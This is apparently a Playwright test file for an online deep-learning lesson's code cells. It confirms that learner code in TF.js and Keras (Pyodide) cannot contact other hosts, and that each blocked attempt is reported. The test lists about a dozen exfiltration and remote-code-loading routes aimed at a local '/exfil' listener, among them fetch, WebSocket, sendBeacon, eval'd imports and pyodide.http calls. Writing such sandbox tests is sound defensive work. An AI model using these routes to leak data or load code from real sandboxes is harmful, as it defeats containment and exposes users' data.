/**
 * Learner code reaches nothing outside its worker, in either language. A listener on another
 * loopback port stands for any other host: the code in the cell tries every route out we know of
 * at it, and it must hear nothing (not even a connection), while the cell names each attempt and
 * the next correct run still passes. The spec runs twice (playwright.config.ts): against the
 * server that sends the Content-Security-Policy header, and against one that sends no headers
 * at all, as many static hosts do, where only the pages' own <meta> policy holds.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { SOLUTIONS } from '../../src/lib/grading/solutions';
import { cellOf, PYTHON_SOLUTIONS, runChecks, setCode, slip } from './cells';
import { expect, test } from './fixtures';

/** Python's first run downloads it (13 MB) and starts it; then a dozen runs of a second or two each. */
test.describe.configure({ timeout: 240_000 });

/** A plain HTTP server on another loopback port that counts every connection made to it. */
async function listener(): Promise<{ server: Server; url: string; connections: () => number }> {
  let count = 0;
  const server = createServer((_request, response) => response.end('reached'));
  server.on('connection', () => count++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { server, url: `http://127.0.0.1:${port}/exfil?d=my-draft-code`, connections: () => count };
}

interface Attempt {
  /** The line(s) the learner's function runs first. */
  code: string;
  /** What the cell says about it: in its list of blocked attempts, or in the failed check. */
  says: RegExp;
}

/** Every route out from a TF.js cell; `url` is the listener's. Promises are caught, as a careful attacker would. */
function tfjsAttempts(url: string): Attempt[] {
  const ws = url.replace(/^http/, 'ws');
  const loads = new RegExp(`Blocked: the code tried to load code from ${escape(url)}`);
  return [
    // Not at the start of a line, where the compiler already refuses import lines.
    { code: `void import('${url}').catch(() => {});`, says: loads },
    { code: `(0, eval)("import('${url}').catch(() => {})");`, says: loads },
    { code: `new Function("return import('${url}')")().catch(() => {});`, says: loads },
    { code: `importScripts('${url}');`, says: /importScripts is turned off in code cells/ },
    { code: `fetch('${url}');`, says: /fetch is turned off in code cells/ },
    { code: `const xhr = new XMLHttpRequest(); xhr.open('GET', '${url}'); xhr.send();`, says: /XMLHttpRequest is turned off in code cells/ },
    { code: `new WebSocket('${ws}');`, says: /WebSocket is turned off in code cells/ },
    { code: `new EventSource('${url}');`, says: /EventSource is turned off in code cells/ },
    { code: `navigator.sendBeacon('${url}', 'draft');`, says: /navigator\.sendBeacon is turned off in code cells/ },
    { code: `new Worker('${url}');`, says: /Worker is turned off in code cells/ },
  ];
}

/** Every route out from a Keras cell: through Python's js module, and Pyodide's own HTTP helpers. */
function kerasAttempts(url: string): Attempt[] {
  const loads = new RegExp(`Blocked: the code tried to load code from ${escape(url)}`);
  return [
    { code: `js.eval("import('${url}').catch(() => {})")`, says: loads },
    { code: `js.Function("return import('${url}').catch(() => {})")()`, says: loads },
    { code: `js.importScripts('${url}')`, says: /importScripts is turned off in code cells/ },
    { code: `js.fetch('${url}')`, says: /fetch is turned off in code cells/ },
    { code: `js.XMLHttpRequest.new()`, says: /XMLHttpRequest is turned off in code cells/ },
    { code: `js.WebSocket.new('${url.replace(/^http/, 'ws')}')`, says: /WebSocket is turned off in code cells/ },
    { code: `js.EventSource.new('${url}')`, says: /EventSource is turned off in code cells/ },
    { code: `js.navigator.sendBeacon('${url}', 'draft')`, says: /navigator\.sendBeacon is turned off in code cells/ },
    { code: `js.Worker.new('${url}')`, says: /Worker is turned off in code cells/ },
    { code: `pyodide.http.pyfetch('${url}')`, says: /PermissionError: pyodide\.http\.pyfetch is turned off in code cells/ },
    { code: `pyodide.http.open_url('${url}')`, says: /PermissionError: pyodide\.http\.open_url is turned off in code cells/ },
  ];
}

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

for (const language of ['tfjs', 'keras'] as const) {
  test(`${language === 'tfjs' ? 'TF.js' : 'Keras'}: learner code reaches no other host by any route, each attempt is named, and a correct run still passes`, async ({
    page,
  }) => {
    const { server, url, connections } = await listener();
    try {
      await page.goto('/lessons/identity-block/');
      const cell = cellOf(page);
      await cell.scrollIntoViewIfNeeded();
      if (language === 'keras') await cell.getByRole('radio', { name: 'Keras' }).check();
      await expect(page.getByRole('textbox', { name: /^Code cell/ })).toBeVisible();
      const attempts = language === 'tfjs' ? tfjsAttempts(url) : kerasAttempts(url);
      for (const { code, says } of attempts) {
        const source =
          language === 'tfjs'
            ? slip(SOLUTIONS['identity-block'], '  const XShortcut = X;\n', `  const XShortcut = X;\n  ${code}\n`)
            : `import js\nimport pyodide.http\n${slip(PYTHON_SOLUTIONS['identity-block'], '    X_shortcut = X\n', `    X_shortcut = X\n    ${code}\n`)}`;
        await setCode(page, source);
        await runChecks(page);
        await expect(cell, `what the cell says after: ${code}`).toContainText(says);
      }
      await setCode(page, language === 'tfjs' ? SOLUTIONS['identity-block'] : PYTHON_SOLUTIONS['identity-block']);
      await runChecks(page);
      await expect(cell.getByText('All checks passed')).toBeVisible();
      await expect(cell.getByRole('alert')).toBeHidden();
      expect(connections(), 'connections that reached the listener').toBe(0);
    } finally {
      server.close();
    }
  });
}
